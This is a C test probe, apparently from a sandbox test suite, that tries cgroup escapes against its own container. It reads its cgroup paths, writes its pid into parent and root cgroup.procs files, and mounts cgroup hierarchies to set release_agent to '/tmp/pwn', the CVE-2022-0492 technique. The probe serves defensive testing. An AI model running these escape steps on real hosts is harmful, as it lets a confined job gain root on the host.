/* Cgroup escape: a job that can write its pid into a parent's (or the
 * root's) cgroup.procs leaves its limits behind; release_agent of a v1
 * hierarchy runs a program as root on the host (CVE-2022-0492). The job
 * sees its own cgroup as "/" (cgroup namespace), has no /sys, cannot mount,
 * and /proc/self/cgroup paths lead nowhere outside. */
#include "attack.h"

#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>

int main(void)
{
    char buf[1024] = {0};
    int fd = open("/proc/self/cgroup", O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    if (n > 0)
        buf[n] = '\0';
    /* Every line ends in ":/" (v2) or ":/" for each v1 controller. */
    int outside = 0;
    for (char *l = strtok(buf, "\n"); l; l = strtok(NULL, "\n")) {
        char *p = strrchr(l, ':');
        printf("INFO cgroup %s\n", l);
        if (p && strcmp(p, ":/") != 0)
            outside = 1;
    }
    attempt(outside, "see a path outside our cgroup", "%s", outside ? "a host path shows" : "only /");
    char pid[32];
    snprintf(pid, sizeof pid, "%d\n", getpid());
    attempt_write("/sys/fs/cgroup/cgroup.procs", pid);
    attempt_write("/sys/fs/cgroup/unified/cgroup.procs", pid);
    attempt_write("/sys/fs/cgroup/memory/cgroup.procs", pid);
    const char *types[][2] = {{"cgroup2", NULL}, {"cgroup", "memory"}, {"cgroup", "pids"},
                              {"cgroup", "none,name=sbx"}};
    for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
        mkdir("/tmp/cg", 0755);
        int r = mount("cgroup", "/tmp/cg", types[i][0], 0, types[i][1]);
        char what[96];
        snprintf(what, sizeof what, "mount %s %s", types[i][0], types[i][1] ? types[i][1] : "");
        attempt(r == 0, what, "%s", res(r));
        if (r == 0) {
            attempt_write("/tmp/cg/cgroup.procs", pid);
            attempt_write("/tmp/cg/../cgroup.procs", pid);
            attempt_write("/tmp/cg/release_agent", "/tmp/pwn");
            umount2("/tmp/cg", MNT_DETACH);
        }
    }
    return done();
}
